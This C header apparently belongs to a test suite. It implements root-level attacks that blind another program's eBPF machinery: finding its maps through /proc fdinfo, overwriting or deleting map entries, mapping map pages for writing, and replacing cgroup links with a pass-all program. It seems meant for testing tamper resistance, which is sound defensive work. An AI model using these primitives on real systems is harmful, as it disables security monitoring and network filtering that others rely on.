/* SPDX-License-Identifier: Apache-2.0 */
/* What somebody does who wants a program of others blind: writes to what its maps hold, moves how far
 * its ring is read, gives its links another program. As root. */
#pragma once

#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/mman.h>

#include "bpf.h"
#include "util/macro.h"

#define TRUTH_MAPS_MAX 64

static inline bool truth_has(const uint32_t *ids, unsigned count, uint32_t id)
{
	while (count > 0 && ids[count - 1] != id) {
		count--;
	}
	return count > 0;
}

/* The numbers of the maps that a process has open; links to a map tell it, too. */
static inline unsigned truth_maps_of(pid_t pid, uint32_t ret[TRUTH_MAPS_MAX])
{
	char folder[64], line[256];
	struct dirent *entry;
	unsigned count = 0;
	DIR *d;

	(void)snprintf(folder, sizeof(folder), "/proc/%d/fdinfo", (int)pid);
	d = opendir(folder);
	while (d && (entry = readdir(d))) {
		int fd = openat(dirfd(d), entry->d_name, O_RDONLY | O_CLOEXEC);
		FILE *f = fd >= 0 ? fdopen(fd, "r") : NULL;

		while (f && fgets(line, sizeof(line), f)) {
			uint32_t id;

			if (count < TRUTH_MAPS_MAX && sscanf(line, "map_id: %u", &id) == 1 &&
			    !truth_has(ret, count, id)) {
				ret[count++] = id;
			}
		}
		(void)(f && fclose(f));
	}
	(void)(d && closedir(d));
	return count;
}

/* Every byte of the first entry, or of one that is put in: where the value is a file, this one. */
static inline bool truth_overwrite(int map, const struct bpf_map_info *info, char byte, int file)
{
	static char value[1 << 20]; /* of each processor, where each has its own */
	char key[256] = { 0 };
	union bpf_attr a = { .map_fd = (uint32_t)map,
			     .key = (uint64_t)(uintptr_t)key,
			     .value = (uint64_t)(uintptr_t)value };

	memset(value, byte, sizeof(value));
	if (info->value_size == sizeof(file)) {
		memcpy(value, &file, sizeof(file));
	}
	if (info->type == BPF_MAP_TYPE_SK_STORAGE) {
		memcpy(key, &file, sizeof(file));
	}
	return truth_bpf(BPF_MAP_UPDATE_ELEM, &a) == 0;
}

static inline bool truth_take_out(int map, int file)
{
	char key[256] = { 0 };
	union bpf_attr a = { .map_fd = (uint32_t)map, .key = (uint64_t)(uintptr_t)key };

	memcpy(key, &file, sizeof(file));
	return truth_bpf(BPF_MAP_DELETE_ELEM, &a) == 0;
}

/* Through memory: the first page can be mapped for writing. */
static inline char *truth_map_page(int map)
{
	void *at = mmap(NULL, (size_t)sysconf(_SC_PAGESIZE), PROT_READ | PROT_WRITE, MAP_SHARED,
			map, 0);

	return at == MAP_FAILED ? NULL : at;
}

/* Gives each link of this attach type to this cgroup a program that lets everything pass: how many. */
static inline unsigned truth_relink(uint64_t cgroup, uint32_t attach)
{
	const struct bpf_insn pass[] = { TRUTH_TRUE, TRUTH_EXIT };
	int program = truth_program(BPF_PROG_TYPE_CGROUP_SKB, attach, pass, NW_ARRAY_SIZE(pass));
	unsigned replaced = 0;
	uint32_t type;

	for (uint32_t id = 0; truth_next_id(BPF_LINK_GET_NEXT_ID, &id);) {
		int link = truth_link(id, cgroup, &type);

		if (link >= 0) {
			union bpf_attr a = { .link_update = { .link_fd = (uint32_t)link,
							      .new_prog_fd = (uint32_t)program } };

			replaced += type == attach && truth_bpf(BPF_LINK_UPDATE, &a) == 0;
			(void)close(link);
		}
	}
	(void)close(program);
	return replaced;
}
